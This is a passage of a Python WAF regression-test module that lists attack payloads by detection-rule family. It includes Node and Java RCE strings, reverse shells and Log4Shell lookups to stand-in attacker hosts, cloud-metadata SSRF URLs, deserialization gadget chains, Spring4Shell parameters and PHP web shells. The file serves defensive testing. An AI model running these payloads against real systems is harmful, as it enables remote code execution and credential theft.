"""Blind positive tests for the generic (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS, data: scheme), Java
and server-side template injection titles, written as a seventh author of those titles would write a rule's
positive regression tests, with benign requests that carry the same words innocently.

Angle: a rule author who has only the detection titles (CRS 3.3.4 934100, 944100-944250 at paranoia levels 1-2,
and the request-rule titles CRS 4.x added for these families) writes, per title, the canonical attack the title
names, then one test per alternative of its family (every keyword, class, gadget, scheme, engine construct he
knows), then the variants a good rule must still catch: other quoting and casing, whitespace and comment
substitutes, concatenation, and the encodings a server decodes (URL, double URL, HTML entities, \\u escapes in
JSON). Attack shapes come from real applications of many kinds (PHP CMSs, Java/Struts/Spring/WebLogic apps,
Node APIs, Rails, Perl CGI scripts, ASP.NET on IIS), not only ours.

Families and sub-families (one sub-family per title):
  generic: nodejs-injection (934100, 1/2), nodejs-injection-2 (2/2), ssrf-cloud-metadata, ssrf-url-ip-address,
           prototype-pollution, ruby-injection, perl-injection, nodejs-dos, php-data-scheme
  java:    java-rce-suspicious-class (944100), java-process-spawn (944110, CVE-2017-9805),
           java-serialization-rce (944120, CVE-2015-4852), java-suspicious-class (944130),
           java-magic-bytes (944200), java-magic-bytes-base64 (944210),
           java-serialization-keyword (944240), java-suspicious-method (944250 and the 4.x title of that name),
           log4shell, java-class-loading, java-script-upload
  ssti:    ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf, ssti-erb, ssti-smarty,
           ssti-handlebars, ssti-pug, ssti-ejs, ssti-mako, ssti-razor

Placements: every payload is sent twice. Once to our real routes (query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, X-Api-Version, a
parameter name, an XML body, a multipart field or file name of /admin/users/import, the URL path, a raw JSON or
XML document, a query string of its own, Content-Type, a PUT path), once the way a WAF's regression suite sends
it (placements "rs-..."): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, a form body,
a JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent, Referer, a custom
header, Content-Type or a cookie. Raw Java serialization bytes (latin-1 payloads) go only where a server
URL-decodes them (query, form, parameter name, path, cookie).

Benign: developers chatting about the same code in Slack and writing it into bios, documentation links, prose
typed into the admin search, people and companies whose names carry the same words, data: avatars, real client
User-Agents (Java, Node, Ruby, Perl), ordinary uploads and cookies.

Authorship and independence: written for this repository from general knowledge of each family and the titles
alone; no rule, engine source, ruleset regression test, other blind set or public payload list was read. The
set was measured once on unchanged code and not altered after seeing what the WAF blocks. Deterministic: no
clock, no randomness.
"""

from __future__ import annotations

import base64
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any, NamedTuple
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "sixtythird"


class P(NamedTuple):
    """A payload with the placements it must take (None: the sub-family's rotation), raw bytes if binary."""

    payload: str
    ours: str | None = None
    rs: str | None = None
    binary: bool = False


Entry = str | P

# ---------------------------------------------------------------------------------------------- generic: Node.js

_NODE_SERIALIZE = ('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\', '
                   'function(e,o){});}()","country":"Lameville","city":"Springfield"}')
NODE_SERIALIZE_COOKIE = base64.b64encode(_NODE_SERIALIZE.encode()).decode()

NODEJS_1: list[Entry] = [
    "_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e,o){console.log(o)})}()",
    P('{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'ls /\', '
      'function(error, stdout, stderr) { console.log(stdout) });}()"}', "json-doc", "rs-json-doc"),
    P(NODE_SERIALIZE_COOKIE, "cookie", "rs-cookie"),
    P('{"__js_function":"function(){return process.mainModule.require(\'child_process\').execSync(\'id\')}"}',
      "json-doc", "rs-json-doc"),
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,"
    "115,39,41,46,101,120,101,99,40,39,105,100,39,41))",
    "new Function(\"return process.mainModule.require('child_process').execSync('id').toString()\")()",
    "(function(){ return this.constructor.constructor('return process')() })().exit()",
    "this.constructor.constructor(\"return process\")().mainModule.require(\"fs\").readFileSync(\"/etc/passwd\")",
    "module.exports = function(){ require('child_process').exec('id') }",
    "(()=>{process.kill(process.pid)})()",
    "eval (Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=','base64').toString())",
    "eval/**/('require(\"child_process\").exec(\"id\")')",
    "%5F%24%24ND_FUNC%24%24%5Ffunction()%7Brequire('child_process').exec('id')%7D()",
    P("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "json-u", "rs-json-u"),
]

NODEJS_2: list[Entry] = [
    "require('child_process').exec('cat /etc/passwd')",
    "require(\"child_process\").execSync(\"id\").toString()",
    "process.mainModule.require('child_process').spawn('sh',['-c','id'])",
    "global.process.mainModule.constructor._load('child_process').execSync('id')",
    "require('child_process').fork('/tmp/x.js')",
    "require('fs').writeFileSync('/tmp/pwned','1')",
    "require('fs').readdirSync('/').join()",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',"
    "readable:true,writable:false}]})",
    "require('net').connect(4444,'203.0.113.5',function(){this.pipe(require('child_process').spawn('/bin/sh')"
    ".stdin)})",
    "res.end(require('child_process').execSync('id'))",
    "require ( \"child_process\" ) [ \"exec\" ] ( \"id\" )",
    "require('child'+'_process')['ex'+'ec']('id')",
    "import('child_process').then(cp=>cp.execSync('id'))",
    "global['proc'+'ess']['mainModule']['require']('child_process')['execSync']('id')",
]

# ------------------------------------------------------------------------------------------------ generic: SSRF

SSRF_METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.goog/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management"
    ".azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.170.2/v2/credentials/3c9d0b5e-8f1a-4c2b-9e7d-1a2b3c4d5e6f",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
]

SSRF_IP: list[Entry] = [
    "http://127.0.0.1:8080/manager/html",
    "http://10.0.0.7:9200/_cat/indices",
    "https://192.168.0.1/admin",
    "http://172.17.0.1:2375/containers/json",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0000.0000.0001/",
    "http://017700000001/",
    "http://127.1/",
    "http://0.0.0.0:6379/",
    "http://[::1]:8080/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://10.0.0.5:11211/stat",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
]

# ------------------------------------------------------------------------------------ generic: prototype pollution

PROTO: list[Entry] = [
    P("__proto__[isAdmin]=true", "query-string", "rs-query-string"),
    P("a[__proto__][polluted]=1", "query-string", "rs-query-string"),
    P("constructor[prototype][isAdmin]=true", "form-string", "rs-form-string"),
    P("__proto__.isAdmin=1", "query-string", "rs-form-string"),
    P("constructor.prototype.isAdmin=1", "form-string", "rs-query-string"),
    P("%5F%5Fproto%5F%5F%5BisAdmin%5D=true", "query-string", "rs-query-string"),
    P("%255F%255Fproto%255F%255F[role]=admin", "query-string", "rs-query-string"),
    P('{"__proto__":{"isAdmin":true}}', "json-doc", "rs-json-doc"),
    P('{"user":{"name":"x","constructor":{"prototype":{"role":"admin"}}}}', "json-doc", "rs-json-doc"),
    P('{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}', "json-doc", "rs-json-doc"),
    P('{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}',
      "json-doc", "rs-json-doc"),
    P('{"a":{"__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/cmdline"}}}',
      "json-doc", "rs-json-doc"),
    P('{"path":"__proto__.isAdmin","value":true}', "json-doc", "rs-json-doc"),
    P("__proto__[toString]=x", "param-name", "rs-raw-body"),
]

# --------------------------------------------------------------------------------------------- generic: Ruby, Perl

RUBY: list[Entry] = [
    "Kernel.system(\"id\")",
    "Kernel.exec('cat /etc/passwd')",
    "IO.popen(\"id\").read",
    "Process.spawn(\"touch /tmp/pwned\")",
    "\"#{`id`}\"",
    "%x(whoami)",
    "open(\"|id\").read",
    "eval(\"File.read('/etc/passwd')\")",
    "instance_eval(\"system('id')\")",
    "Object.const_get(:Kernel).send(:system, \"id\")",
    "Marshal.load(Base64.decode64(params[:data]))",
    P("--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
      "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
      "      loaded_from: \"|id 1>&2\"\n", "form", "rs-raw-body"),
    "Open3.capture2(\"id\")",
    "Kernel . public_send ( :spawn , \"id\" )",
]

PERL: list[Entry] = [
    "system('id');",
    "exec \"/bin/sh\";",
    "qx{id}",
    "qx/uname -a/",
    "print `id`;",
    "@{[ system \"id\" ]}",
    "${\\ `whoami` }",
    "open(F, \"|/usr/bin/id\");",
    "|cat /etc/passwd|",
    "eval{use IO::Socket;$s=IO::Socket::INET->new(\"203.0.113.5:4444\");}",
    "require \"/tmp/x.pl\";",
    "do \"/etc/passwd\";",
    "use POSIX; POSIX::system(\"id\")",
    "perl -e 'exec \"/bin/sh\"'",
]

# ----------------------------------------------------------------------------------- generic: Node DoS, data: PHP

NODE_DOS: list[Entry] = [
    "while(true){}",
    "while(1);",
    "while(!0){}",
    "while (!false) {}",
    "for(;;){}",
    "do{}while(true)",
    "while(!null){}",
    "while(!undefined){}",
    "while(Infinity){}",
    P('{"$where":"while(true){}"}', "json-doc", "rs-json-doc"),
    "'a'.repeat(2**30)",
    "new Array(4294967295).fill(0)",
    "while ( !! [] ) { }",
    "while/**/(true){}",
]

PHP_DATA: list[Entry] = [
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php echo shell_exec('id'); ?>",
    "data:;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "DATA://Text/Plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "data://application/x-httpd-php;base64,PD9waHAgcGFzc3RocnUoJ2lkJyk7Pz4=",
    "data:text/plain;charset=utf-8;base64,PD9waHAgc3lzdGVtKCJ3aG9hbWkiKTs/Pg==",
    "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
    "data:image/gif;base64,R0lGODlhPD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOz8%2B",
    "data: text/plain;base64,PD9waHAgc3lzdGVtKCdscycpOz8+",
    "data://text/plain;base64,PD9waHAgZXZhbCgkX1BPU1RbJ3gnXSk7Pz4%3D",
    "data:,<?php system('id')?>",
    "index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
]

# ---------------------------------------------------------------------------------------------------------- Java

JAVA_RCE_CLASS: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(new String[]{\"bash\",\"-c\",\"id\"}).start()",
    "@java.lang.Runtime@getRuntime().exec('whoami')",
    "T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})",
    "<object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>id</string></void>"
    "</object>",
    P('{"@type":"java.lang.ProcessBuilder","command":["id"]}', "json-doc", "rs-json-doc"),
    "java.lang.ProcessImpl.start(new String[]{\"id\"},null,null,null,false)",
    "Class.forName(\"java.lang.UNIXProcess\")",
    "java.lang.Process p = java.lang.Runtime.getRuntime().exec(request.getParameter(\"cmd\"));",
    "java . lang . Runtime . getRuntime ( ) . exec ( \"id\" )",
    "java./**/lang./**/Runtime.getRuntime().exec(\"id\")",
    "java%2Elang%2ERuntime%2EgetRuntime()%2Eexec(%22id%22)",
    P("java.lang.Runtime.getRuntime().exec(\"id\")", "json-u", "rs-json-u"),
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null).exec(\"id\")}",
]

_XSTREAM_9805 = (
    '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>'
    '<value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler>'
    '<dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">'
    '<is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher">'
    '<initialized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.FilterIterator">'
    '<iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/>'
    '<next class="java.lang.ProcessBuilder"><command><string>/bin/sh</string><string>-c</string>'
    '<string>id</string></command><redirectErrorStream>false</redirectErrorStream></next></iter>'
    '<filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class>'
    '<name>start</name><parameter-types/></method><name>foo</name></filter><next class="string">foo</next>'
    '</serviceIterator><lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStream"/><ibuffer></ibuffer>'
    '<done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed>'
    '</dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value>'
    '</jdk.nashorn.internal.objects.NativeString>'
    '<jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/>'
    '</entry></map>'
)

JAVA_SPAWN: list[Entry] = [
    P(_XSTREAM_9805, "xml-doc", "rs-xml-doc"),
    P(_XSTREAM_9805.replace("><", ">\n  <"), "xml-doc", "rs-xml-doc"),
    P('<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>'
      '<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command>'
      '<string>calc.exe</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
      "xml-doc", "rs-xml-doc"),
    P('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
      '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8.0" '
      'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
      'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void>'
      '<void index="2"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext>'
      '</soapenv:Header><soapenv:Body/></soapenv:Envelope>', "xml-doc", "rs-xml-doc"),
    '<object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0">'
    '<string>calc.exe</string></void></array><void method="start"/></object>',
    '<value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource>'
    '<next class="java.lang.ProcessBuilder"><command><string>id</string></command></next>',
    "new java.lang.ProcessBuilder(\"/bin/sh\",\"-c\",\"id\").redirectErrorStream(true).start()",
    '&lt;next class=&quot;java.lang.ProcessBuilder&quot;&gt;&lt;command&gt;&lt;string&gt;id&lt;/string&gt;'
    '&lt;/command&gt;&lt;/next&gt;',
    P('<filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.Runtime</class>'
      '<name>exec</name><parameter-types><class>java.lang.String</class></parameter-types></method></filter>',
      "multipart-field", "rs-xml"),
    "<next  class = 'java.lang.ProcessBuilder' ><command><string>id</string></command></next>",
    P('["java.lang.ProcessBuilder",{"command":["bash","-c","id"],"redirectErrorStream":true}]',
      "json-doc", "rs-json-doc"),
    "%3Cnext%20class%3D%22java.lang.ProcessBuilder%22%3E%3Ccommand%3E%3Cstring%3Eid%3C%2Fstring%3E",
]

_CC_CHAIN = (
    '<org.apache.commons.collections.functors.ChainedTransformer><iTransformers>'
    '<org.apache.commons.collections.functors.ConstantTransformer><iConstant class="java-class">java.lang.Runtime'
    '</iConstant></org.apache.commons.collections.functors.ConstantTransformer>'
    '<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>getMethod</iMethodName>'
    '<iParamTypes><java-class>java.lang.String</java-class></iParamTypes><iArgs><string>getRuntime</string></iArgs>'
    '</org.apache.commons.collections.functors.InvokerTransformer>'
    '<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>exec</iMethodName><iArgs>'
    '<string>id</string></iArgs></org.apache.commons.collections.functors.InvokerTransformer></iTransformers>'
    '</org.apache.commons.collections.functors.ChainedTransformer>'
)

JAVA_SER_RCE: list[Entry] = [
    P(_CC_CHAIN, "xml-doc", "rs-xml-doc"),
    P('{"transformer":["org.apache.commons.collections.functors.InvokerTransformer",{"iMethodName":"exec",'
      '"iParamTypes":["java.lang.String"],"iArgs":["id"]}],"target":"java.lang.Runtime"}', "json-doc", "rs-json-doc"),
    "new InstantiateTransformer(new Class[]{String[].class}, new Object[]{new String[]{\"id\"}})"
    ".transform(java.lang.ProcessBuilder.class)",
    "InstantiateFactory(java.lang.ProcessBuilder.class, new Class[]{String[].class}, args)",
    "new WhileClosure(predicate, new InvokerTransformer(\"exec\", types, args), false) // java.lang.Runtime",
    "ForClosure.forClosure(1, closure); Runtime.getRuntime().exec(\"id\")",
    "CloneTransformer.getInstance(); java.lang.Runtime r = java.lang.Runtime.getRuntime();",
    "PrototypeCloneFactory proto = new PrototypeCloneFactory(new java.lang.ProcessBuilder(\"id\"), m);",
    "PrototypeSerializationFactory(java.lang.Runtime.getRuntime())",
    "java.lang.System.getProperty(\"os.name\");java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.io.FileWriter(\"/tmp/x.sh\").write(\"id\");java.lang.Runtime.getRuntime().exec(\"sh /tmp/x.sh\")",
    "new java.beans.XMLDecoder(in).readObject() // <void class=\"java.lang.ProcessBuilder\">",
    P("\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02"
      "\x00\x03[\x00\x05iArgst\x00\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;"
      "t\x00\x04exect\x00\x11java.lang.Runtime", "query", "rs-form", binary=True),
    "org.apache.commons.collections.functors.invokertransformer java.lang.RUNTIME getruntime",
]

JAVA_SUSPICIOUS_CLASS: list[Entry] = [
    P("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
      "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
      "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
      "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
      "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
      "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
      "(@org.apache.commons.io.IOUtils@copy(#p.start().getInputStream(),#ros)).(#ros.flush())}",
      "header:Content-Type", "rs-header:Content-Type"),
    "redirect:${#req=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest'),"
    "#resp=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#resp.getWriter().flush()}",
    "new java.io.BufferedReader(new java.io.InputStreamReader(p.getInputStream()))",
    "new java.io.FileOutputStream(\"/var/www/html/shell.jsp\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1+1\")",
    "java.lang.System.getenv()",
    "java.lang.Class.forName(\"java.lang.Runtime\")",
    "java.lang.reflect.Method m = c.getDeclaredMethod(\"exec\", String.class);",
    "org.omg.CORBA.ORB.init(args, null)",
    "new java.io.ObjectOutputStream(new java.io.ByteArrayOutputStream())",
    "com.sun.org.apache.xml.internal.security.utils.Base64.decode(s)",
    "@org.apache.struts2.ServletActionContext@getResponse().getWriter().print('x')",
    "new java.io.File(\"/etc/passwd\").exists()",
    P("java.lang.StringBuilder sb = new java.lang.StringBuilder(); java.io.InputStream in = "
      "java.lang.Runtime.getRuntime().exec(\"id\").getInputStream();", "json-u", "rs-json-u"),
]


def _ser(cls: str, tail: bytes) -> bytes:
    """A Java serialization stream starting with a class descriptor of `cls`."""
    return b"\xac\xed\x00\x05sr\x00" + bytes([len(cls)]) + cls.encode() + tail


SER_HASHMAP = _ser("java.util.HashMap", b"\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\t"
                   b"thresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01t\x00\x01ax")
SER_STRING = b"\xac\xed\x00\x05t\x00\x05hello"
SER_OBJECTS = b"\xac\xed\x00\x05ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x01"
SER_AIH = _ser("sun.reflect.annotation.AnnotationInvocationHandler",
               b"U\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;")
SER_BAVE = _ser("javax.management.BadAttributeValueExpException",
                b"\xd4\xe7\xda\xabc-F@\x02\x00\x01L\x00\x03valt\x00\x12Ljava/lang/Object;")
SER_URL = _ser("java.net.URL", b"\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCodeI\x00\x04port")
SER_PQ = _ser("java.util.PriorityQueue", b"\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00\x04size")
SER_LAZYMAP = _ser("org.apache.commons.collections.map.LazyMap", b"n\xe5\x94\x82\x9ey\x10\x94\x03\x00\x01L\x00"
                   b"\x07factoryt\x00,Lorg/apache/commons/collections/Transformer;")


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


MAGIC: list[Entry] = [
    P(_latin(SER_HASHMAP), binary=True),
    P(_latin(SER_STRING), binary=True),
    P(_latin(SER_OBJECTS), binary=True),
    P(_latin(SER_AIH), binary=True),
    P(_latin(SER_BAVE), binary=True),
    P(_latin(SER_URL), binary=True),
    P(_latin(SER_PQ), binary=True),
    P(_latin(b"\xac\xed\x00\x05w\x04\x00\x00\x00\x01"), binary=True),
    P(_latin(b"\xac\xed\x00\x05p"), binary=True),
    P(_latin(b"\x00\x00\x05\x12\x01e\x01\xff\xff\xff\xff\xff\xff\xff\xff" + SER_LAZYMAP), binary=True),
    SER_HASHMAP[:25].hex(),
    "0x" + SER_STRING.hex().upper(),
    "%AC%ED%00%05sr%00%11java.util.HashMap",
]


def _b64(raw: bytes, url: bool = False) -> str:
    return (base64.urlsafe_b64encode(raw) if url else base64.b64encode(raw)).decode()


_MIME_B64 = _b64(SER_AIH + SER_HASHMAP)
MAGIC_B64: list[Entry] = [
    _b64(SER_HASHMAP),
    _b64(SER_STRING),
    _b64(SER_OBJECTS),
    _b64(SER_AIH, url=True),
    _b64(b"\x01" + SER_BAVE),
    _b64(b"\x00\x01" + SER_PQ),
    P("javax.faces.ViewState=" + urllib.parse.quote(_b64(SER_OBJECTS + b"t\x00\x0c/login.xhtml"), safe=""),
      "form-string", "rs-form-string"),
    urllib.parse.quote(_b64(SER_URL), safe=""),
    P("\r\n".join(_MIME_B64[i:i + 76] for i in range(0, len(_MIME_B64), 76)), "form", "rs-json"),
    P(_b64(SER_LAZYMAP), "json-u", "rs-json-u"),
    P(_b64(SER_HASHMAP), "cookie", "rs-cookie"),
    "Basic-Object " + _b64(SER_STRING),
    _b64(SER_URL).rstrip("="),
]

JAVA_SER_KEYWORD: list[Entry] = [
    P('{"@type":"org.apache.commons.collections.functors.InvokerTransformer","iMethodName":"toString"}',
      "json-doc", "rs-json-doc"),
    "org.apache.commons.collections4.functors.InvokerTransformer",
    '<org.apache.commons.collections.functors.InstantiateTransformer><iParamTypes/><iArgs/>'
    '</org.apache.commons.collections.functors.InstantiateTransformer>',
    "org.apache.commons.collections.functors.InstantiateFactory",
    "CloneTransformer.getInstance()",
    "ForClosure.forClosure(3, closure)",
    "org.apache.commons.collections.functors.WhileClosure",
    "PrototypeCloneFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory",
    "${T(java.lang.System).getProperty('user.home')}",
    "new java.io.FileWriter(\"/var/www/html/x.jsp\").append(\"<% out.println(1); %>\")",
    "new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(s.getBytes())).readObject()",
    P('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQAJgoA"],'
      '"_name":"a","_tfactory":{},"_outputProperties":{}}', "json-doc", "rs-json-doc"),
    "org.apache.commons.collections.functors.Invoker%54ransformer",
]

JAVA_METHOD: list[Entry] = [
    "<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>",
    "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "Class.forName(\"java.lang.Runtime\").getDeclaredMethod(\"exec\", String.class)",
    "java.lang.reflect.Method m = Class.forName(\"java.lang.ProcessBuilder\").getMethod(\"start\"); "
    "m.setAccessible(true);",
    "new javax.naming.InitialContext().lookup(\"ldap://attacker.example:1389/Exploit\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "java.lang.System.exit(1)",
    "java.lang.Thread.sleep(10000)",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"Exploit\").newInstance()",
    "new bsh.Interpreter().eval(\"exec(\\\"id\\\")\")",
    "println \"id\".execute().text",
    "java.lang.invoke.MethodHandles.lookup().findStatic(Class.forName(\"java.lang.Runtime\"), \"getRuntime\", mt)",
    "${facesContext.getExternalContext().getRequest().getClass().getClassLoader()}",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
]

LOG4SHELL: list[Entry] = [
    "${jndi:ldap://203.0.113.9:1389/Exploit}",
    "${jndi:rmi://attacker.example:1099/obj}",
    "${jndi:dns://attacker.example/x}",
    "${jndi:ldaps://attacker.example/a}",
    "${jndi:iiop://attacker.example/a}",
    "${jndi:nds://attacker.example/a}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}mi://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//attacker.example/a}",
    "${jNdI:LdAp://attacker.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
    P("${jndi:ldap://attacker.example/a}", "json-u", "rs-json-u"),
    "&#36;&#123;jndi:ldap://attacker.example/a&#125;",
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",
]

CLASS_LOADING: list[Entry] = [
    P("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22"
      ".equals(request.getParameter(%22pwd%22)))%7B%20%7D%20%25%7Bsuffix%7Di", "form-string", "rs-form-string"),
    P("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "query-string",
      "rs-query-string"),
    P("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", "form-string",
      "rs-query-string"),
    P("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", "query-string",
      "rs-form-string"),
    P("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", "form-string",
      "rs-form-string"),
    P("class.module.classLoader.DefaultAssertionStatus=true", "query-string", "rs-query-string"),
    P("class.classLoader.resources.dirContext.docBase=%5C%5Cattacker.example%5Cshare", "query-string",
      "rs-query-string"),
    P("class['classLoader']['resources']['dirContext']['docBase']=/", "form-string", "rs-form-string"),
    P("class%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Esuffix=.jsp",
      "query-string", "rs-query-string"),
    P('["org.springframework.context.support.FileSystemXmlApplicationContext","http://attacker.example/spel.xml"]',
      "json-doc", "rs-json-doc"),
    P('{"@class":"org.springframework.context.support.ClassPathXmlApplicationContext",'
      '"configLocation":"http://attacker.example/x.xml"}', "json-doc", "rs-json-doc"),
    P('{"class":{"module":{"classLoader":{"resources":{"context":{"parent":{"pipeline":{"first":'
      '{"suffix":".jsp"}}}}}}}}}', "json-doc", "rs-json-doc"),
    P('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
      '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A'
      '$8dV$dbR$TA$Q$3d$93$q$d9$q$Y$C"}', "json-doc", "rs-json-doc"),
